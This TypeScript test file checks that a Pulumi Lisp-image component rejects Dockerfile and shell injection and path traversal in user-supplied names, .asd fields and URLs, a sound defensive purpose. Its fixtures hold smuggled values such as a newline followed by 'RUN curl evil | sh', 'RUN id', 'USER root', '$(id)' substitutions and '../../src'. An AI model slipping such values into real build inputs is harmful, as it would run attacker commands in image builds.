import * as fc from "fast-check";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as pulumi from "@pulumi/pulumi";
import { ValidationError } from "../../../src/errors";
import { DockerfileSpec, renderDockerfile, RUNTIME_BASES } from "../../../src/image/dockerfile";
import { HELLO_DOCKERFILE_SPEC } from "./dockerfile.fixtures";
import { buildContextDir, contextDirName, LispImage } from "../../../src/image/lispImage";
import { planImage } from "../../../src/image/plan";
import { RecordingMocks, settle, valueOf } from "../../harness/mocks";
import { runSh, shParseErrors } from "../consumers";

// Issue 19: nothing a user writes (arguments or the .asd) adds an instruction to the rendered Dockerfile or
// changes what its shell commands run; the build directory derived from the resource name stays inside
// .lisp-deploy/images/.

const base: DockerfileSpec = HELLO_DOCKERFILE_SPEC;

/**
 * The Dockerfile read back as Docker's parser reads it (moby/buildkit frontend/dockerfile/parser): lines
 * split on LF; blank lines and lines whose first non-blank is '#' skipped, also inside a continuation; a
 * trailing '\' continues the instruction on the next line (joined without the '\' and the newline); the
 * first word is the instruction. Line based on purpose: one dependency (fast-check) is all this layer adds.
 */
function instructions(dockerfile: string): { keyword: string; args: string }[] {
    const out: { keyword: string; args: string }[] = [];
    let current: string | undefined;
    for (const line of dockerfile.split("\n")) {
        if (/^[ \t]*(#|$)/.test(line)) continue;
        const continued = /\\[ \t]*$/.test(line);
        current = (current ?? "") + (continued ? line.replace(/\\[ \t]*$/, "") : line);
        if (continued) continue;
        const m = /^[ \t]*(\S+)[ \t]*([\s\S]*)$/.exec(current)!;
        out.push({ keyword: m[1].toUpperCase(), args: m[2] });
        current = undefined;
    }
    if (current !== undefined) out.push({ keyword: "<unterminated>", args: current });
    return out;
}


/** Runs the build stage's RUN as Docker would (`/bin/sh -c`), with sbcl, mkdir and sh stubbed: returns what sbcl saw. */
function buildStageEnvironment(dockerfile: string): Record<string, string> {
    const run = instructions(dockerfile).find((i) => i.keyword === "RUN" && i.args.includes("LISP_DEPLOY_ENTRY_POINT"))!;
    expect(shParseErrors(run.args)).toBe("");
    const stubs = fs.mkdtempSync(path.join(os.tmpdir(), "lisp-deploy-stubs-"));
    try {
        fs.writeFileSync(path.join(stubs, "sbcl"), '#!/bin/sh\nprintf "%s\\0" "$LISP_DEPLOY_SYSTEM" "$LISP_DEPLOY_ENTRY_POINT" "$LISP_DEPLOY_OUTPUT"\n', { mode: 0o755 });
        for (const cmd of ["mkdir", "sh"]) fs.writeFileSync(path.join(stubs, cmd), "#!/bin/dash\nexit 0\n", { mode: 0o755 });
        const result = runSh(`PATH=${stubs}:$PATH; ${run.args}`);
        expect(result.stderr).toBe("");
        const [system, entryPoint, output] = result.stdout.toString("utf8").split("\0");
        return { system, entryPoint, output };
    } finally {
        fs.rmSync(stubs, { recursive: true, force: true });
    }
}

/** Strings that mean something to Docker or the shell, and arbitrary text. */
const hostile = fc.oneof(
    fc.string({ unit: "binary", maxLength: 20 }),
    fc.array(fc.constantFrom("a", "z", "9", "-", ".", "/", "+", ":", "'", '"', "$", "$(id)", "`id`", ";", "&", "|", "\\", "*", "?", "[", "]", "{", "}", "#", " ", "\t", "\n", "\r", "\nRUN id\n", "\\\n", "\u2028", "\u0085", "%", "é"), { minLength: 1, maxLength: 10 }).map((p) => p.join("")),
);

describe("renderDockerfile: the defects of issue 19", () => {
    test.each([
        ["systemName", { systemName: "hello\nRUN curl evil | sh" }],
        ["buildPathname", { buildPathname: "hello\nRUN id" }],
        ["buildPathname", { buildPathname: "hello world" }],
        ["buildPathname", { buildPathname: "$HOME" }],
        ["entryPoint", { entryPoint: "hello:main\nUSER root" }],
        ["runtimePackages[0]", { runtimePackages: ["libssl3\nRUN id"] }],
        ["sbcl.tarballUrl", { sbcl: { kind: "url", url: "https://x/sbcl.tar\nRUN id" } }],
    ] as const)("%s with a newline or unquotable character is refused", (field, change) => {
        const spec = { ...base, ...change } as DockerfileSpec;
        expect(() => renderDockerfile(spec)).toThrow(ValidationError);
        expect(() => renderDockerfile(spec)).toThrow(new RegExp(`^${field.replace(/[[\].]/g, "\\$&")}: `));
    });

    test("a newline in the .asd's :build-pathname or system name is refused at plan time, naming the argument and the file", () => {
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "lisp-deploy-asd-"));
        try {
            fs.writeFileSync(path.join(dir, "evil.asd"), '(defsystem "evil" :entry-point "evil:main" :build-pathname "evil\nRUN id")\n');
            expect(() => planImage({ appDir: dir, dependencySource: { kind: "debian" } })).toThrow(/^args\.buildPathname: .*from :build-pathname in evil\.asd/);
            fs.writeFileSync(path.join(dir, "evil.asd"), '(defsystem "evil\nRUN id" :entry-point "evil:main")\n');
            expect(() => planImage({ appDir: dir, systemName: "evil\nRUN id", dependencySource: { kind: "debian" } })).toThrow(/^args\.systemName: /);
            fs.writeFileSync(path.join(dir, "evil.asd"), '(defsystem "evil" :entry-point "evil:main" :depends-on ("ok" "bad\nRUN id"))\n');
            expect(() => planImage({ appDir: dir, dependencySource: { kind: "debian" } })).toThrow(/^args\.dependencies: .*from :depends-on in evil\.asd/);
        } finally {
            fs.rmSync(dir, { recursive: true, force: true });
        }
    });
});

describe("renderDockerfile property: no value adds an instruction or changes a command", () => {
    test("system name, entry point, build pathname, runtime packages and SBCL URL: refused, or read back exactly", () => {
        fc.assert(
            fc.property(
                fc.oneof(hostile, fc.stringMatching(/^[a-z][a-z0-9+./-]{0,10}$/)),
                fc.tuple(hostile, hostile).map(([p, f]) => `${p}:${f}`),
                fc.oneof(hostile, fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._+-]{0,10}$/)),
                fc.array(fc.oneof(hostile, fc.stringMatching(/^[a-z0-9][a-z0-9+.-]{1,8}$/)), { maxLength: 2 }),
                fc.option(hostile.map((s) => `https://example.org/${s}`), { nil: undefined }),
                fc.constantFrom(...RUNTIME_BASES),
                (systemName, entryPoint, buildPathname, runtimePackages, url, runtimeBase) => {
                    const spec: DockerfileSpec = { ...base, systemName, entryPoint, buildPathname, runtimePackages, runtimeBase, sbcl: url === undefined ? base.sbcl : { kind: "url", url } };
                    let dockerfile: string;
                    try {
                        dockerfile = renderDockerfile(spec);
                    } catch (e) {
                        expect(e).toBeInstanceOf(ValidationError);
                        expect((e as ValidationError).field).toMatch(/^(systemName|entryPoint|buildPathname|runtimePackages\[\d\]|sbcl\.tarballUrl)$/);
                        return;
                    }
                    const parsed = instructions(dockerfile);
                    // The same instructions as a plain spec of the same shape (an SBCL URL adds its one RUN in
                    // basepackages; with the slim runtime, runtime packages add their install to the build stage).
                    const plain: DockerfileSpec = {
                        ...base,
                        runtimeBase,
                        runtimePackages: runtimePackages.length > 0 ? ["libssl3"] : [],
                        sbcl: url === undefined ? base.sbcl : { kind: "url", url: "https://example.org/x" },
                    };
                    const expected = instructions(renderDockerfile(plain)).map((i) => i.keyword);
                    expect(parsed.map((i) => i.keyword)).toEqual(expected);
                    // The build stage's shell command hands sbcl exactly the values given.
                    expect(buildStageEnvironment(dockerfile)).toEqual({ system: systemName, entryPoint, output: `/opt/lisp-deploy/out/${buildPathname}` });
                    // COPY and ENTRYPOINT name the executable as one word.
                    expect(parsed.filter((i) => i.keyword === "COPY" && i.args.startsWith("--from=build /opt/lisp-deploy/out/" + buildPathname + " "))).toHaveLength(1);
                    expect(JSON.parse(parsed.find((i) => i.keyword === "ENTRYPOINT")!.args)).toEqual([`/app/${buildPathname}`]);
                    for (const instruction of parsed.filter((i) => i.keyword === "RUN")) expect(shParseErrors(instruction.args)).toBe("");
                },
            ),
            { numRuns: 150 },
        );
    });
});

describe("LispImage's build directory: the resource name never leaves .lisp-deploy/images/", () => {
    test("contextDirName keeps a name one safe path segment", () => {
        fc.assert(
            fc.property(fc.string({ unit: "binary", maxLength: 30 }), (name) => {
                const dir = buildContextDir(name, undefined);
                expect(path.posix.normalize(dir)).toBe(dir);
                expect(path.posix.dirname(dir)).toBe(".lisp-deploy/images");
                expect(contextDirName(name)).toMatch(/^[A-Za-z0-9_%-][A-Za-z0-9_.%-]*$/);
            }),
            { numRuns: 200 },
        );
        expect(contextDirName("web/api")).toBe("web%2Fapi");
        expect(contextDirName("../../src")).toBe("%2E.%2F..%2Fsrc");
    });

    test.each([".", "", "..", "../elsewhere", "/tmp/x", "a/../..", "ctx\n"])("an explicit contextDir %j outside the program or the program itself is refused", (given) => {
        expect(() => buildContextDir("x", given)).toThrow(/^args\.contextDir: /);
    });

    test("a LispImage named ../../src writes below .lisp-deploy/images/ and leaves the program's src alone", async () => {
        const program = fs.mkdtempSync(path.join(os.tmpdir(), "lisp-deploy-program-"));
        const cwd = process.cwd();
        const hello = path.resolve("examples/hello");
        try {
            fs.mkdirSync(path.join(program, "src"));
            fs.writeFileSync(path.join(program, "src", "keep.txt"), "mine\n");
            process.chdir(program);
            pulumi.runtime.setMocks(new RecordingMocks(), "injection", "test", false);
            const image = new LispImage("../../src", { appDir: hello, dependencySource: { kind: "debian" } });
            await valueOf(image.imageRef);
            await settle();
            expect(fs.readFileSync(path.join(program, "src", "keep.txt"), "utf8")).toBe("mine\n");
            expect(fs.existsSync(path.join(program, ".lisp-deploy", "images", "%2E.%2F..%2Fsrc", "Dockerfile"))).toBe(true);
        } finally {
            process.chdir(cwd);
            fs.rmSync(program, { recursive: true, force: true });
        }
    });
});
